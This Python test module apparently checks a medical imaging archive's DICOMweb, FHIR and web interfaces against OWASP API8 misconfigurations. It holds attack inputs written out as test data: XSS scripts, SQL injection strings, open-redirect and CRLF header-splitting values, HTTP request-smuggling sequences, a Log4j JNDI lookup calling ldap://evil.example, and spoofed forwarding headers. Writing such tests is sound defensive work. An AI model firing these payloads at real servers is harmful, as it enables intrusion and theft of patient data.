"""API8: security misconfiguration. What browsers, proxies and other sites can be made to do."""

import json

from world import attack, status

RISK = "API8:2023 Security Misconfiguration"
EVIL = "https://evil.example"


def api8(door, tried, naive, answer):
    return attack(RISK, door, tried, naive, answer)


@api8(
    "all doors",
    "a page of another site asks, with and without its origin being `null` or like the archive's, before and without asking",
    "CORS that echoes whoever asks, with credentials",
    "no permission in any answer",
)
def _(world):
    host = world.doors.base.split("//")[1]
    for origin in (EVIL, "null", f"http://{host}.evil.example", f"https://{host}", "http://localhost.evil.example", f"http://evil{host}"):
        for path in (world.study(rest="/series"), "/fhir/metadata", "/openapi.json", "/auth/ways", "/healthz"):
            for method in ("GET", "OPTIONS"):
                headers = {"Origin": origin, "Access-Control-Request-Method": "GET", "Access-Control-Request-Headers": "authorization"}
                answer = world.doors.ask(method, path, world.token("b_clinician"), headers=headers)
                assert not [name for name in answer.headers if name.lower().startswith("access-control")], (origin, path, answer.headers)


@api8(
    "pages",
    "a form of another site signs somebody in or out, with the session's cookie",
    "cross-site request forgery",
    "403, or the cookie is not sent at all",
)
def _(world):
    for site in ("cross-site", "same-site"):
        headers = {"Sec-Fetch-Site": site, "Origin": EVIL, "Cookie": world.told["a_session"]}
        status(world.doors.post("/signout", headers=headers), 403)
        status(world.doors.post("/signin", headers=headers, data={"token": world.token("b_clinician")}), 403)
    answer = status(world.doors.post("/signin", data={"token": world.token("b_clinician")}), 303)
    cookie = answer.headers["Set-Cookie"]
    assert "; HttpOnly" in cookie and "; SameSite=Strict" in cookie and "Domain" not in cookie, cookie


@api8(
    "doors for programs",
    "the session's cookie of the pages at DICOMweb, FHIR and the emergency routes",
    "one session for pages and programs, so that any site can drive it",
    "401",
)
def _(world):
    session = {"Cookie": world.told["a_session"]}
    for path in (
        world.study(rest="/metadata"),
        "/fhir/Observation?code=94500-6",
        "/auth/break-glass/queue",
        "/dicom-web/workitems",
        "/wado?requestType=WADO",
    ):
        status(world.doors.get(path, headers=session), 401)
    status(world.doors.post("/auth/break-glass", headers=session, json={"number": "1", "reason": "r"}), 401)


@api8(
    "pages",
    "addresses to come back to that are another site's, or hold a line's end",
    "open redirections, split headers",
    "303 to a path of the archive itself",
)
def _(world):
    for back in (
        EVIL,
        "//evil.example",
        "/\\evil.example",
        "\\\\evil.example",
        "/%09/evil.example",
        "https:evil.example",
        "/\r\nSet-Cookie: a=b",
        "/\t/evil.example",
        "javascript:alert(1)",
        "//evil.example/%2e%2e",
    ):
        answer = world.doors.get("/language/en", params={"back": back})
        place = answer.headers.get("Location", "/")
        assert place.startswith("/") and not place.startswith(("//", "/\\", "/\t")) and "Set-Cookie: a" not in str(answer.headers), (
            back,
            place,
        )
        answer = world.doors.get("/signin", params={"back": back})
        assert back not in answer.text or back.startswith("/"), back


@api8(
    "all doors",
    "a document that is a page with a script, and a name that is one, kept and then visited",
    "stored scripts that run with the reader's session",
    "no script runs: a sandbox, no sniffing, a strict policy, escaped text",
)
def _(world):
    script = b"<html><script>fetch('/dicom-web/studies')</script></html>"
    token = world.token("a_system")
    context = {"X-Security-Context": f"Patient/{world.resources['Patient']}"}
    for kind in ("text/html", "image/svg+xml", "application/xhtml+xml", "text/xml", "application/javascript"):
        answer = world.doors.post("/fhir/Binary", token, data=script, headers={"Content-Type": kind} | context)
        if answer.status_code >= 400:
            continue
        name = answer.headers["Location"].split("/Binary/")[1].split("/")[0]
        for shown in (
            world.doors.get(f"/fhir/Binary/{name}", world.token("a_clinician")),
            world.doors.get(f"/documents/Binary/{name}", headers={"Cookie": world.told["a_session"]}),
        ):
            policy = shown.headers.get("Content-Security-Policy", "")
            plain = not shown.headers["Content-Type"].startswith((kind, "text/html"))
            assert shown.status_code >= 400 or "sandbox" in policy or plain, (kind, shown.headers)
            assert shown.headers["X-Content-Type-Options"] == "nosniff"
    person = {
        "resourceType": "Patient",
        "identifier": [{"value": "RM-SCRIPT"}],
        "name": [{"text": "<img src=x onerror=alert(1)>"}],
        "text": {"status": "generated", "div": "<div xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></div>"},
    }
    world.doors.post(
        "/fhir/Patient", world.token("a_clinician"), data=json.dumps(person), headers={"Content-Type": "application/fhir+json"}
    )
    for path in ("/", "/results", "/?name=%3Cscript%3Ealert(1)%3C/script%3E", "/signin?back=%22%3E%3Cscript%3Ealert(1)%3C/script%3E"):
        shown = world.doors.get(path, headers={"Cookie": world.told["a_session"]})
        assert "<script>alert" not in shown.text and "<img src=x" not in shown.text, path
        assert "unsafe" not in shown.headers["Content-Security-Policy"] and "script-src 'self'" in shown.headers["Content-Security-Policy"]


_.own = True


@api8(
    "all doors",
    "two lengths, a length beside chunks, a space before the colon, a folded line, a chunk of 2^64: a second request hidden in the first",
    "a proxy and a server that count differently (RFC 9112 6.3, 11.2)",
    "400, or one answer, and the connection ends",
)
def _(world):
    host = world.doors.base.split("//")[1]
    hidden = f"GET {world.study(rest='/metadata')} HTTP/1.1\r\nHost: {host}\r\nAuthorization: Bearer {world.token('a_clinician')}\r\n\r\n"
    begin = f"POST /auth/device/begin HTTP/1.1\r\nHost: {host}\r\nContent-Type: application/json\r\n"
    for fields in (
        f"Content-Length: 0\r\nContent-Length: {len(hidden)}\r\n",
        f"Content-Length: {len(hidden) + 5}\r\nTransfer-Encoding: chunked\r\n",
        "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n",
        "Transfer-Encoding : chunked\r\n",
        "Transfer-Encoding: xchunked\r\n",
        "Content-Length: 0\r\n X: folded\r\n",
        "Content-Length: +0\r\n",
        "Content-Length: 0x0\r\n",
    ):
        answer = world.doors.raw((begin + fields + "\r\n0\r\n\r\n" + hidden).encode(), silent=1.0)
        # The hidden request is honest: were it taken, it would be answered with what is kept.
        assert answer.count(b"HTTP/1.1 ") <= 2 and b" 200 OK" not in answer, (fields, answer[:400])
    answer = world.doors.raw((begin + "Transfer-Encoding: chunked\r\n\r\nFFFFFFFFFFFFFFFFF\r\n" + hidden).encode(), silent=1.0)
    assert b" 200 OK" not in answer, answer[:300]


@api8(
    "all doors",
    "bytes that are no UTF-8, NUL, broken escapes and formats in paths, queries, headers and bodies",
    "a trace of the stack, a file's name or a statement in the answer",
    "4xx that says nothing of the inside",
)
def _(world):
    token, host = world.token("b_clinician"), world.doors.base.split("//")[1]
    for path in (
        "/dicom-web/studies/%00",
        "/dicom-web/studies/%FF%FE",
        "/fhir/Patient/%",
        "/fhir/Patient/%zz",
        "/dicom-web/studies?PatientName=%FF",
        "/fhir/Patient?name=%C0%80",
        "/patients/%00",
        "/assets/%00",
        "/dicom-web/studies?0010XXXX=1",
        "/fhir/Patient?_id='%20OR%201=1--",
        "/dicom-web/studies?PatientID=1'%20UNION%20SELECT%20*%20FROM%20patients--",
        "/fhir/$%7Bjndi:ldap://evil.example/a%7D",
    ):
        answer = world.doors.get(path, token)
        assert answer.status_code < 500, path
        for word in ("panicked", ".rs", "sqlite", "SELECT", "backtrace", "/src/", "thread '"):
            assert word not in answer.text.replace("UNION SELECT", ""), (path, word)
    for request in (
        f"GET / HTTP/1.1\r\nHost: {host}\r\nX: \x00\r\n\r\n",
        f"GET http://evil.example/ HTTP/1.1\r\nHost: {host}\r\n\r\n",
        f"TRACE / HTTP/1.1\r\nHost: {host}\r\nCookie: a=secret\r\n\r\n",
        "CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example\r\n\r\n",
        "GET / HTTP/9.9\r\n\r\n",
        "OPTIONS * HTTP/1.1\r\nHost: a\r\n\r\n",
    ):
        answer = world.doors.raw(request.encode("latin-1"), silent=1.0)
        assert b" 50" not in answer[:16] and b"secret" not in answer and b" 200 " not in answer[:16], (request, answer[:200])


@api8(
    "all doors",
    "Host, X-Forwarded-Host, -Proto, -Prefix, Forwarded and X-Original-URL of another site, behind a proxy",
    "links, redirections and proofs for whatever the header says",
    "links of the configured origin; nothing else changes",
)
def _(world):
    spoofed = {
        "Host": "evil.example",
        "X-Forwarded-Host": "evil.example",
        "X-Forwarded-Proto": "http",
        "X-Forwarded-Prefix": "/evil",
        "Forwarded": "host=evil.example;proto=http",
        "X-Original-URL": "/auth/break-glass/queue",
        "X-Rewrite-URL": "/openapi.json",
        "X-Forwarded-Server": "evil.example",
    }
    answer = status(world.metered.get("/.well-known/smart-configuration", headers=spoofed), 200)
    assert answer.json()["token_endpoint"] == world.metered.signed + "/auth/token" and "evil" not in answer.text
    answer = status(world.metered.get("/fhir/metadata", headers=spoofed), 200)
    assert "evil" not in answer.text and world.metered.signed in answer.text
    login = world.metered_people["a_colleague"]
    answer = world.metered.get("/dicom-web/studies?limit=1", headers=login.headers("GET", "/dicom-web/studies") | spoofed)
    assert status(answer, 200).json() and "evil" not in answer.text, answer.text
    honest, path = login.doors.signed, "/dicom-web/studies"
    for origin in ("https://evil.example", "http://evil.example", world.metered.base):
        proof = login.key.proof("GET", origin + path, login.token)
        status(world.metered.get(path, headers=spoofed | {"Authorization": f"DPoP {login.token}", "DPoP": proof}), 401)
    assert honest.startswith("https://")


_.own = True


@api8(
    "all doors",
    "what an answer leaves behind: in caches, in frames of other sites, in addresses that other sites see, in banners",
    "defaults of frameworks",
    "no-store, nosniff, no frame, no referrer, no banner, everywhere",
)
def _(world):
    session = {"Cookie": world.told["a_session"]}
    for path, further in (
        ("/", session),
        ("/results", session),
        (world.study().replace("/dicom-web", ""), session),
        ("/signin", {}),
        ("/nothing", {}),
    ):
        headers = world.doors.get(path, headers=further).headers
        assert headers["Cache-Control"] == "no-store" and headers["X-Content-Type-Options"] == "nosniff", (path, headers)
        if path != "/nothing":
            assert "frame-ancestors 'none'" in headers["Content-Security-Policy"] and headers["Referrer-Policy"] == "no-referrer", path
    for path in (
        world.study(rest="/metadata"),
        world.instance(rest="/frames/1"),
        "/fhir/Observation?code=94500-6",
        f"/fhir/Patient/{world.resources['Patient']}",
    ):
        headers = world.doors.get(path, world.token("a_clinician")).headers
        assert "no-store" in headers["Cache-Control"] or "private" in headers["Cache-Control"] or "no-cache" in headers["Cache-Control"], (
            path,
            headers,
        )
        assert headers["X-Content-Type-Options"] == "nosniff" and not {"Server", "X-Powered-By", "Via"} & set(headers), headers


_.own = True
